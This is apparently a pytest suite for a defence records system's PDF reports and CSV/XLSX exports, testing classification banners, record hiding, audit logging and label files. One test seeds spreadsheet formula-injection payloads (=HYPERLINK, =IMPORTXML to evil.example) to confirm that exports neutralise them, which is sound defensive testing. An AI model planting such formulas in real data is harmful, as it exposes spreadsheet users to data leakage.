"""Reports and list exports: per-page banners, page numbers, hidden records, audit events.

The data is created through the services; users of different clearance and nationality print
the same reports, and every page's top and bottom banner must equal the combined marking of the
records whose unique markers appear on that page (computed here from the labels we gave them).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import unicodedata
from pathlib import Path

import pytest
from pypdf import PdfReader

from app.domain.declassification import years_after
from app.domain.labels import Label, Release
from app.reports import REPORTS, build_report, render_report
from app.reports.exports import export_list
from app.services import bindings
from app.services.desk import Desk
from app.services.errors import NotFound, PermissionDenied, ValidationFailed

# the PDFs are laid out with Qt: pytest-qt's QApplication, never a bare one made by the renderer
pytestmark = pytest.mark.usefixtures("qapp")

U = Label(0)
C_GBR = Label(2, Release.REL, frozenset({"GBR"}))
S_FVEY = Label(3, Release.REL, frozenset({"FVEY"}))
S_NOFORN = Label(3, Release.NOFORN)
C_FRA = Label(2, Release.REL, frozenset({"FRA", "GBR"}))
TS = Label(4, Release.NOFORN)
SOF = Label(2, Release.NOFORN, groups=frozenset({"SOF"}))  # classified: needs NOFORN or REL TO
LABELS = [U, C_GBR, S_FVEY, S_NOFORN, C_FRA, TS, SOF]


def _pages(path: Path) -> list[list[str]]:
    reader = PdfReader(str(path))
    return [
        [
            " ".join(line.split())
            for line in (page.extract_text() or "").splitlines()
            if line.strip()
        ]
        for page in reader.pages
    ]


@pytest.fixture
def world(admin: Desk, make_user) -> dict:
    """People, agreements, an exchange with a long roster and a tour, under every kind of label."""
    admin.users.create_ntk_group("SOF")
    admin.users.update("admin", {"groups": ["SOF"]})
    markers: dict[str, Label] = {}
    people = []
    with admin.writing() as (session, actor):
        for n in range(90):
            label = LABELS[n % len(LABELS)]
            family = f"Zqx{n:03d}"
            saved = admin.people.create_in(
                session,
                actor,
                {
                    "family_name": family,
                    "given_names": "Test",
                    "nation_code": ["USA", "GBR", "FRA"][n % 3],
                    "rank": "Major",
                    "unit": "Test unit with a rather long name to wrap " * (n % 2 + 1),
                },
                label,
            )
            people.append((saved.record.reference, label))
            markers[family.upper()] = label
        for n in range(70):
            label = LABELS[(n * 3) % len(LABELS)]
            reference = f"TST-{n:04d}"
            values = {
                "reference": reference,
                "title": f"Agreement number {n} on training cooperation",
                "kind": "memorandum_of_understanding",
                "parties": ["USA", "GBR"],
                "status": "in_force",
                "effective_date": dt.date(2020, 1, 1),
                "expiry_date": dt.date.today() + dt.timedelta(days=30 + n * 20),
            }
            admin.agreements.create_in(session, actor, values, label)
            markers[reference] = label
    exchange = admin.exchanges.create(
        {
            "title": "Combined staff course",
            "kind": "course_seat",
            "host_nation": "USA",
            "partner_nations": ["GBR"],
            "start_date": dt.date(2026, 3, 2),
            "end_date": dt.date(2026, 3, 20),
            "domains": ["land"],
        },
        U,
    ).record
    with admin.writing() as (session, actor):
        for reference, _label in people:
            admin.participations.create_in(
                session,
                actor,
                {"exchange": exchange.reference, "person": reference, "role": "trainee"},
                U,
            )
    return {
        "markers": markers,
        "exchange": exchange.reference,
        "people": people,
        "admin": admin,
        "users": {
            "admin": admin,
            "gbr": make_user("gbr", role="coordinator", clearance="S", nation="GBR"),
            "fra": make_user("fra", role="viewer", clearance="C", nation="FRA"),
            "usa_c": make_user("usac", role="viewer", clearance="C", nation="USA", groups=("SOF",)),
        },
    }


def _check_pages(
    desk: Desk, path: Path, markers: dict[str, Label], extra: list[Label] | None = None
) -> list[list[str]]:
    pages = _pages(path)
    total = len(pages)
    readable = set(_visible_markers(desk, markers))
    for number, lines in enumerate(pages, start=1):
        text = "\n".join(lines)
        assert f"Page {number} of {total}" in text
        on_page = [
            label
            for marker, label in markers.items()
            if re.search(rf"\b{re.escape(marker)}\b", text)
        ]
        for marker in markers:
            if marker not in readable:
                assert marker not in text, f"hidden record {marker} printed on page {number}"
        expected = desk.marking(desk.combined(on_page + (extra or [])))
        assert lines[0] == expected, f"page {number} top banner"
        assert lines[-1] == expected, f"page {number} bottom banner"
    return pages


def _visible_markers(desk: Desk, markers: dict[str, Label]) -> list[str]:
    from app.security.policy import can_read

    actor = desk.actor()
    return [
        m
        for m, label in markers.items()
        if can_read(actor, label.with_owner(desk.owner), desk.owner, desk.db.nation_groups())
    ]


@pytest.mark.parametrize("who", ["admin", "gbr", "fra", "usa_c"])
def test_agreements_register_pages_marked_per_page(world: dict, who: str, tmp_path: Path) -> None:
    desk = world["users"][who]
    agreements = {m: lab for m, lab in world["markers"].items() if m.startswith("TST-")}
    out = tmp_path / "agreements.pdf"
    result = render_report(desk, "agreements", {}, out, paper="letter")
    pages = _check_pages(desk, out, agreements)
    assert result.pages == len(pages) > 1
    visible = _visible_markers(desk, agreements)
    text = "\n".join("\n".join(p) for p in pages)
    for marker in visible:
        assert marker in text
    # the register table breaks across pages and repeats its header row on each page it reaches
    register_pages = [p for p in pages if any(re.search(r"\bTST-\d{4}\b", line) for line in p)]
    assert len(register_pages) > 1
    for lines in register_pages:
        first_row = next(i for i, line in enumerate(lines) if re.search(r"\bTST-\d{4}\b", line))
        assert {"Mark", "Reference", "Title", "Expiry"} <= set(lines[:first_row])


@pytest.mark.parametrize("who", ["admin", "gbr", "fra", "usa_c"])
def test_roster_hides_people_and_marks_pages(world: dict, who: str, tmp_path: Path) -> None:
    desk = world["users"][who]
    people = {m: lab for m, lab in world["markers"].items() if m.startswith("ZQX")}
    out = tmp_path / "roster.pdf"
    render_report(desk, "roster", {"exchange": world["exchange"]}, out)
    pages = _check_pages(desk, out, people, extra=[U])
    assert len(pages) > 1
    for lines in pages:
        first_row = next(i for i, line in enumerate(lines) if "ZQX" in line)
        assert {"Name", "Signature"} <= set(lines[:first_row]), (
            "header row repeated with the signature column"
        )


def test_person_report_and_hidden_person_is_not_found(world: dict, tmp_path: Path) -> None:
    gbr = world["users"]["gbr"]
    hidden = next(ref for ref, label in world["people"] if label == S_NOFORN)
    with pytest.raises(NotFound):
        render_report(gbr, "person", {"person": hidden}, tmp_path / "p.pdf")
    assert not (tmp_path / "p.pdf").exists() and not (tmp_path / "p.pdf.label.xml").exists()
    shown, label = next((ref, lab) for ref, lab in world["people"] if lab == C_GBR)
    render_report(gbr, "person", {"person": shown}, tmp_path / "p.pdf")
    pages = _pages(tmp_path / "p.pdf")
    assert pages[0][0] == gbr.marking(
        gbr.combined([label, U])
    )  # the person and their participation in a U exchange
    assert any(line.startswith(gbr.portion_mark(label)) for line in pages[0])


def test_report_is_audited_with_marking_and_count(world: dict, tmp_path: Path) -> None:
    fra = world["users"]["fra"]
    result = render_report(fra, "agreements", {"status": "in force"}, tmp_path / "a.pdf")
    events = world["admin"].audit.list(action="report", limit=5)
    assert events and events[0].username == "fra"
    details = events[0].details
    assert details["report"] == "agreements" and details["marking"] == result.marking
    assert details["records"] == result.records > 0
    assert details["parameters"] == {"status": "in force"}


def test_a_saved_report_has_its_label_beside_it(world: dict, tmp_path: Path) -> None:
    """Issue 14, item 11: the PDF's combined label as a STANAG 4774 label in a STANAG 4778
    binding, NAME.label.xml, which matches the PDF's bytes and prints the PDF's marking."""
    gbr = world["users"]["gbr"]
    out = tmp_path / "register.pdf"
    result = render_report(gbr, "agreements", {}, out)
    assert result.label_file == tmp_path / "register.pdf.label.xml"
    checked = bindings.verify(out)
    assert checked.marking == result.marking and checked.file == out
    assert checked.binding.content_type == "application/pdf"
    assert not list(tmp_path.glob("*.partial"))


def test_every_report_renders_for_the_admin(world: dict, tmp_path: Path) -> None:
    admin = world["admin"]
    params = {
        "exchange-summary": {"exchange": world["exchange"]},
        "roster": {"exchange": world["exchange"]},
        "person": {"person": world["people"][0][0]},
        "statistics": {"from": "2026-01-01", "to": "2026-12-31"},
    }
    for name in REPORTS:
        out = tmp_path / f"{name}.pdf"
        result = render_report(admin, name, params.get(name, {}), out)
        pages = _pages(out)
        assert result.pages == len(pages)
        for number, lines in enumerate(pages, start=1):
            assert lines[0] == result.page_markings[number - 1] == lines[-1]
            assert f"Page {number} of {len(pages)}" in "\n".join(lines)


def test_no_qt_object_of_a_render_outlives_it(world: dict, tmp_path: Path) -> None:
    """Every font, metric and the PDF writer a render makes is freed when it returns, in the
    thread that rendered (a report renders in a worker thread): one left in a reference cycle
    is freed later by the garbage collector on the GUI thread, after the worker's font cache is
    gone, and the program crashes (CI did, in stop 20)."""
    import gc

    params = {
        "exchange-summary": {"exchange": world["exchange"]},
        "roster": {"exchange": world["exchange"]},
        "person": {"person": world["people"][0][0]},
        "statistics": {"from": "2026-01-01", "to": "2026-12-31"},
    }
    thread_bound = ("QPdfWriter", "QFont", "QFontMetricsF", "QTextOption", "QPainter")
    gc.collect()
    gc.disable()
    try:
        for name in REPORTS:
            render_report(world["admin"], name, params.get(name, {}), tmp_path / f"{name}.pdf")
            left = [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in thread_bound]
            assert left == [], (name, left)
    finally:
        gc.enable()


def test_statistics_counts_only_visible_and_audit_is_for_auditors(
    world: dict, tmp_path: Path
) -> None:
    fra = world["users"]["fra"]
    report = build_report(fra, "statistics", {"from": "2026-01-01", "to": "2026-12-31"})
    visible_people = len(
        _visible_markers(
            fra, {m: lab for m, lab in world["markers"].items() if m.startswith("ZQX")}
        )
    )
    assert (
        f"1 exchanges starting in the period, {visible_people} participations."
        in report.blocks[0].text
    )
    with pytest.raises(PermissionDenied):
        render_report(fra, "audit", {}, tmp_path / "audit.pdf")
    with pytest.raises(ValidationFailed) as failure:
        render_report(fra, "statistics", {"from": "not a date"}, tmp_path / "s.pdf")
    assert "from" in failure.value.errors


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_state_marking_and_hide_records(world: dict, fmt: str, tmp_path: Path) -> None:
    gbr = world["users"]["gbr"]
    out = tmp_path / f"agreements.{fmt}"
    result = export_list(gbr, "agreement", out, filters={"status": "in_force"}, sort=["-reference"])
    agreements = {m: lab for m, lab in world["markers"].items() if m.startswith("TST-")}
    visible = _visible_markers(gbr, agreements)
    expected = gbr.marking(gbr.combined([agreements[m] for m in visible]))
    assert result.records == len(visible) and result.marking == expected
    # the file's label beside it (issue 14, item 11)
    assert result.label_file == tmp_path / f"agreements.{fmt}.label.xml"
    assert bindings.verify(out).marking == expected
    if fmt == "csv":
        lines = out.read_text(encoding="utf-8").splitlines()
        assert lines[0] == f"# {expected}"
        rows = list(csv.reader(lines[2:]))
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out).active
        assert sheet.cell(1, 1).value == expected
        assert expected in sheet.oddHeader.center.text and expected in sheet.oddFooter.center.text
        rows = [
            [c if c is not None else "" for c in r]
            for r in sheet.iter_rows(min_row=3, values_only=True)
        ]
    references = [row[0] for row in rows]
    assert references == sorted(visible, reverse=True)
    event = world["admin"].audit.list(action="export", limit=1)[0]
    assert (
        event.username == "gbr"
        and event.details["records"] == len(visible)
        and event.details["marking"] == expected
    )
    assert json.dumps(event.details["filters"]) == '{"status": "in_force"}'


def test_long_text_wraps_across_pages_without_loss(admin: Desk, tmp_path: Path) -> None:
    words = " ".join(f"objective{n:04d}" for n in range(900))
    unbroken = "X" * 400  # one word wider than the page: broken, never cut
    exchange = admin.exchanges.create(
        {
            "title": "Long text exchange",
            "kind": "seminar",
            "host_nation": "USA",
            "start_date": dt.date(2026, 5, 4),
            "end_date": dt.date(2026, 5, 8),
            "objectives": f"{words} {unbroken} last-word",
        },
        S_FVEY,
    ).record
    out = tmp_path / "summary.pdf"
    result = render_report(
        admin, "exchange-summary", {"exchange": exchange.reference}, out, paper="letter"
    )
    pages = _pages(out)
    assert result.pages == len(pages) > 1
    text = " ".join(" ".join(lines) for lines in pages)
    assert all(f"objective{n:04d}" in text for n in range(900))
    assert "last-word" in text and text.replace(" ", "").count("X" * 400) >= 1
    for number, lines in enumerate(pages, start=1):
        assert lines[0] == lines[-1] == admin.marking(S_FVEY.with_owner("USA"))
        assert f"Page {number} of {len(pages)}" in " ".join(lines)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_list_exports_of_the_window_never_write_a_live_formula(
    admin: Desk, fmt: str, tmp_path: Path
) -> None:
    admin.people.create(
        {
            "family_name": "Formula",
            "nation_code": "USA",
            "unit": '=HYPERLINK("http://evil.example","click")',
            "position": '=IMPORTXML("http://evil.example","//a")',
            "phone": "+1 555 0100",
        }
    )
    out = tmp_path / f"people.{fmt}"
    export_list(admin, "person", out)
    if fmt == "csv":
        [row] = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()[1:]))
        cells = {k: row[k] for k in ("unit", "position", "phone")}
        assert cells == {
            "unit": '\'=HYPERLINK("http://evil.example","click")',
            "position": '\'=IMPORTXML("http://evil.example","//a")',
            "phone": "'+1 555 0100",
        }
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out).active
        header = [c.value for c in sheet[2]]
        row = {name: cell for name, cell in zip(header, sheet[3], strict=False)}
        assert row["unit"].data_type == "s" and row["position"].data_type == "s"
        assert row["unit"].value == '=HYPERLINK("http://evil.example","click")'
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_a_classified_report_carries_the_authority_block_on_its_face(
    world: dict, tmp_path: Path
) -> None:
    """Classified By, Derived From, Declassify On on the first page of a classified report, not
    on later pages; an unclassified report has none (issue 14, item 8). Declassify On is the
    most distant date of the records it shows: here each record's default, 25 years after it
    was created (today), even for a report printed years later."""
    admin = world["admin"]
    now = dt.datetime.now() + dt.timedelta(days=800)
    result = render_report(admin, "agreements", {}, tmp_path / "a.pdf", now=now)
    assert not result.marking.startswith("UNCLASSIFIED")
    pages = _pages(tmp_path / "a.pdf")
    face = unicodedata.normalize("NFKC", "\n".join(pages[0]))  # the PDF's "fi" ligature
    assert "Classified By: " in face and "Derived From: Multiple Sources" in face
    assert f"Declassify On: {years_after(dt.date.today()):%Y%m%d}" in face
    assert all("Declassify On" not in "\n".join(page) for page in pages[1:])
    from app.reports.render import authority_block

    assert authority_block(0, "x", now) == []  # and without sources' dates: 25 years on
    assert authority_block(3, "x", dt.datetime(2028, 2, 29))[2] == "Declassify On: 20530228"
